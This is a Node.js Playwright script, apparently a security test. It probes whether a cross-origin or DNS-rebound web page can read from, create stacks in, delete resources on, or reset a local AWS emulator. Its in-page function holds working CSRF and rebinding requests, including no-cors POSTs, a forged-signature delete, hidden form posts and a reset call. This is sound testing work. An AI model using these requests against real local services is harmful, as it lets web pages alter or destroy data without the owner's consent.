// What a web page of another origin, and one whose name points to the loopback interface, can do to a local AWS.
//
// node attack.mjs <port of the page> <port of the local AWS>; CHROMIUM names a browser to use instead of the pinned one.
// Prints {"page": what the pages have seen, "responses": [[method, URL, status], ...]} as JSON.

import chromium from "@sparticuz/chromium";
import { chromium as browsers } from "playwright-core";

const [pagePort, port] = process.argv.slice(2);
// The package is made for screenshots: without these it protects pages from each other as any browser does.
const unsafe = /^--(disable-web-security|disable-site-isolation-trials|allow-running-insecure-content)/;
const browser = await browsers.launch({
  executablePath: process.env.CHROMIUM || (await chromium.executablePath()),
  args: [...chromium.args.filter((each) => !unsafe.test(each)), "--host-resolver-rules=MAP *.example 127.0.0.1"],
  headless: true,
});
const context = await browser.newContext();
const responses = [];
context.on("response", (each) => responses.push([each.request().method(), each.url(), each.status()]));

// Runs in a page.
async function attack(target) {
  const scope = "20260101/us-east-1/cloudformation/aws4_request";
  const stack = "Action=CreateStack&Version=2010-05-15&StackName=taken&TemplateBody=%7B%22Resources%22%3A%7B%7D%7D";
  const presigned = `${target}/?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=local%2F${scope.replaceAll("/", "%2F")}`;
  const form = { "Content-Type": "application/x-www-form-urlencoded" };
  const json = {
    Authorization: "AWS4-HMAC-SHA256 Credential=local/20260101/us-east-1/sagemaker/aws4_request, SignedHeaders=host, Signature=" + "0".repeat(64),
    "Content-Type": "application/x-amz-json-1.1",
    "X-Amz-Target": "SageMaker.DeleteModelPackageGroup",
  };
  const attempts = {
    read: [`${target}/kept/secret`, {}],
    "read without looking": [`${target}/kept/secret`, { mode: "no-cors" }],
    "simple post": [presigned, { method: "POST", mode: "no-cors", headers: form, body: stack }],
    "text post": [`${target}/`, { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: stack }],
    preflighted: [`${target}/`, { method: "POST", headers: json, body: '{"ModelPackageGroupName": "kept"}' }],
    "preflighted delete": [`${target}/kept/secret`, { method: "DELETE" }],
    put: [`${target}/taken`, { method: "PUT" }],
    reset: [`${target}/moto-api/reset`, { method: "POST", mode: "no-cors" }],
    console: [`${target}/moto-api/data.json`, {}],
  };
  const seen = {};
  for (const [name, [url, options]] of Object.entries(attempts)) {
    try {
      const answer = await fetch(url, options);
      seen[name] = answer.type === "opaque" ? "opaque" : `${answer.status} ${await answer.text()}`;
    } catch (error) {
      seen[name] = error.name;
    }
  }
  for (const [action, fields] of [[presigned, stack], [`${target}/moto-api/reset`, ""]]) {
    const frame = Object.assign(document.createElement("iframe"), { name: `frame${Math.random()}` });
    const posted = Object.assign(document.createElement("form"), { method: "POST", action, target: frame.name });
    for (const [name, value] of new URLSearchParams(fields)) {
      posted.append(Object.assign(document.createElement("input"), { name, value }));
    }
    document.body.append(frame, posted);
    const loaded = new Promise((resolve) => frame.addEventListener("load", resolve, { once: true }));
    posted.submit();
    await Promise.race([loaded, new Promise((resolve) => setTimeout(resolve, 3000))]);
  }
  const image = new Image();
  image.src = `${target}/kept/secret`;
  await new Promise((resolve) => (image.onload = image.onerror = resolve));
  return seen;
}

const seen = {};
const page = await context.newPage();
await page.goto(`http://evil.example:${pagePort}/`);
seen["another origin"] = await page.evaluate(attack, `http://127.0.0.1:${port}`);
// After its name has been made to point here, a page of this origin is what its attacker has loaded before.
await page.goto(`http://rebound.example:${port}/`);
seen["another name"] = await page.evaluate(attack, `http://rebound.example:${port}`);
await browser.close();
console.log(JSON.stringify({ seen, responses: responses.filter(([, url]) => new URL(url).port === port) }));
